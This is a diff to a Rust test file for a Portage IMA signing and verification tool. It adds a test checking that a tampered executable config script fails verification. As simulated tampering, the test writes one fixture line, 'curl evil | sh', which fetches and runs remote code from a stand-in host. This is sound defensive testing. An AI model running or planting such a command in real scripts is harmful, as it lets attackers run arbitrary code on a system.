@@ -8,8 +8,9 @@ use std::process::Command;
 
 use ima_core::{default_provider, HashAlgo, ImaSigner, KeyMaterial, KeySet};
 use portage_ima::engine::Outcome;
-use portage_ima::objects::{sign_object, verify_object};
+use portage_ima::objects::{sign_object, verify_object, ConfigProtect};
 use portage_ima::rootfs::RootDir;
+use portage_ima::verify::FileStatus;
 
 fn md5(data: &[u8]) -> [u8; 16] {
     let out = Command::new("md5sum")
@@ -32,6 +33,14 @@ struct Fixture {
     dir: tempfile::TempDir,
     signer: ImaSigner,
     keys: KeySet,
+}
+
+/// The one status `verify_object` gives for a file that is not a config file.
+fn verify_one(f: &Fixture, root: &RootDir, path: &str, md5: &[u8; 16]) -> FileStatus {
+    let none = ConfigProtect::new(Path::new(""), "", "");
+    let mut found = verify_object(&f.keys, root, Path::new(path), md5, &none);
+    assert_eq!(found.len(), 1, "{found:?}");
+    found.remove(0)
 }
 
 fn fixture() -> Fixture {
@@ -79,7 +88,7 @@ fn signs_matching_content_and_refuses_the_rest() {
         false,
     );
     assert_eq!(report.outcome, Outcome::Signed);
-    let status = verify_object(&f.keys, &root, Path::new("/usr/bin/tool"), &md5(b"merged"));
+    let status = verify_one(&f, &root, "/usr/bin/tool", &md5(b"merged"));
     assert_eq!(status.status, "ok");
 
     // Changed after the merge: never signed, both MD5s named.
@@ -96,11 +105,11 @@ fn signs_matching_content_and_refuses_the_rest() {
     };
     assert!(reason.contains(&hex::encode(md5(b"merged"))), "{reason}");
     assert!(reason.contains(&hex::encode(md5(b"changed"))), "{reason}");
-    let status = verify_object(&f.keys, &root, Path::new("/usr/bin/tool"), &md5(b"merged"));
+    let status = verify_one(&f, &root, "/usr/bin/tool", &md5(b"merged"));
     assert_eq!(status.status, "modified");
 
     // Missing.
-    let status = verify_object(&f.keys, &root, Path::new("/usr/bin/gone"), &md5(b""));
+    let status = verify_one(&f, &root, "/usr/bin/gone", &md5(b""));
     assert_eq!(status.status, "missing");
 }
 
@@ -128,9 +137,94 @@ fn config_file_changed_by_the_admin_signs_the_cfg_sibling() {
     assert!(read("etc/._cfg0001_app.conf").is_some());
     assert!(read("etc/._cfg0000_app.conf").is_none());
     assert!(read("etc/app.conf").is_none());
-    let status = verify_object(&f.keys, &root, Path::new("/etc/app.conf"), &want);
-    assert_eq!(status.status, "ok");
-    assert!(status.path.ends_with("._cfg0001_app.conf"));
+    // The update is ok; the live file, the one in use, is reported too: it
+    // is unsigned, but not executable, so not a failure.
+    let protect = ConfigProtect::new(Path::new(""), "/etc", "");
+    let found = verify_object(&f.keys, &root, Path::new("/etc/app.conf"), &want, &protect);
+    assert_eq!(found.len(), 2, "{found:?}");
+    assert_eq!(found[0].status, "ok");
+    assert!(found[0].path.ends_with("._cfg0001_app.conf"));
+    assert_eq!(found[1].status, "config-changed", "{found:?}");
+    assert!(found[1].path.ends_with("etc/app.conf"));
+    assert!(!found[1].is_failure());
+    let detail = found[1].detail.as_deref().unwrap();
+    assert!(detail.contains("signature: unsigned"), "{detail}");
+    assert!(
+        detail.contains("update pending: ._cfg0001_app.conf"),
+        "{detail}"
+    );
+}
+
+/// Finding 4 of issue 15: a tampered live config file was reported `ok`
+/// (only its `._cfg` sibling was checked). An executable one that the
+/// kernel would refuse to run is now a failure, with or without an update
+/// pending; a validly signed one, or a changed data file, is reported only.
+#[test]
+fn a_changed_executable_config_file_fails_verification() {
+    use std::os::unix::fs::PermissionsExt;
+    if !is_root() {
+        eprintln!("skipped: writing security.ima needs root");
+        return;
+    }
+    let f = fixture();
+    let root = f.root();
+    let protect = ConfigProtect::new(Path::new(""), "/etc", "");
+    std::fs::create_dir_all(f.dir.path().join("root/etc/init.d")).unwrap();
+    let script = f.dir.path().join("root/etc/init.d/app");
+    let want = md5(b"#!/sbin/openrc-run\n");
+    f.write("etc/init.d/app", b"#!/sbin/openrc-run\n");
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let report = sign_object(&f.signer, &root, Path::new("/etc/init.d/app"), &want, false);
+    assert_eq!(report.outcome, Outcome::Signed);
+    let check = || {
+        verify_object(
+            &f.keys,
+            &root,
+            Path::new("/etc/init.d/app"),
+            &want,
+            &protect,
+        )
+    };
+    assert_eq!(check()[0].status, "ok");
+
+    // Tampered, and an update of the package waiting as ._cfg0000_app.
+    f.write("etc/init.d/app", b"#!/bin/sh\ncurl evil | sh\n");
+    f.write("etc/init.d/._cfg0000_app", b"#!/sbin/openrc-run\n");
+    sign_object(&f.signer, &root, Path::new("/etc/init.d/app"), &want, false);
+    let found = check();
+    assert_eq!(found.len(), 2, "{found:?}");
+    assert_eq!(found[0].status, "ok");
+    assert!(found[0].path.ends_with("._cfg0000_app"));
+    assert_eq!(found[1].status, "modified", "{found:?}");
+    assert!(found[1].is_failure());
+    assert!(found[1].path.ends_with("etc/init.d/app"));
+    let detail = found[1].detail.as_deref().unwrap();
+    assert!(detail.contains("signature: bad-signature"), "{detail}");
+    assert!(detail.contains("would refuse to run it"), "{detail}");
+    assert!(detail.contains("update pending: ._cfg0000_app"), "{detail}");
+
+    // Without the update pending: still a failure.
+    std::fs::remove_file(f.dir.path().join("root/etc/init.d/._cfg0000_app")).unwrap();
+    let found = check();
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].status, "modified");
+
+    // The admin signed the changed script: it runs, so it is reported only.
+    f.signer
+        .sign_file(&std::fs::File::open(&script).unwrap(), &Default::default())
+        .unwrap();
+    let found = check();
+    assert_eq!(found[0].status, "config-changed", "{found:?}");
+    assert!(!found[0].is_failure());
+
+    // Not executable, unsigned: reported only.
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o644)).unwrap();
+    f.write("etc/init.d/app", b"changed again");
+    assert_eq!(check()[0].status, "config-changed");
+    // Outside CONFIG_PROTECT the same change is a failure, as before.
+    let none = ConfigProtect::new(Path::new(""), "", "");
+    let found = verify_object(&f.keys, &root, Path::new("/etc/init.d/app"), &want, &none);
+    assert_eq!(found[0].status, "modified");
 }
 
 #[test]
